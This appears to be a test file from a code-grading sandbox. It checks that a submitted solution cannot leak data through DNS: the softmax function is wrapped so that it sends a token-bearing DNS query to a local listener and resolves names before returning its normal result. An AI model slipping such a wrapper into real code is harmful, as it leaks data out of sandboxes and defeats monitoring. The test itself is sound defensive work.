"""DNS: softmax answers right only when a name resolves (example.com, and a name that carries the
attack's mark, which is how data leaks out through DNS); it also sends a DNS query for that name
to the test's UDP listener on 127.0.0.1.

softmax_values must fail (no lookup may succeed) and the listener must hear nothing. On a machine
without any DNS (CI) the lookup fails anyway: then this shows only that a lookup neither hangs
nor breaks grading.
"""

import socket
import struct

EXERCISE = "e06_ten_digits"
BASE = "solution"
MUST_FAIL = ["softmax_values"]


def _query(name):
    header = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + labels + struct.pack("!HH", 1, 1)


_honest_softmax = globals()["softmax"]  # the solution's, defined above this attack


def softmax(x):
    name = "@@TOKEN@@.example.com"
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.sendto(_query(name), ("127.0.0.1", int("@@UDPPORT@@")))
    except OSError:
        pass
    socket.getaddrinfo("example.com", 443)
    socket.getaddrinfo(name, 443)
    return _honest_softmax(x)
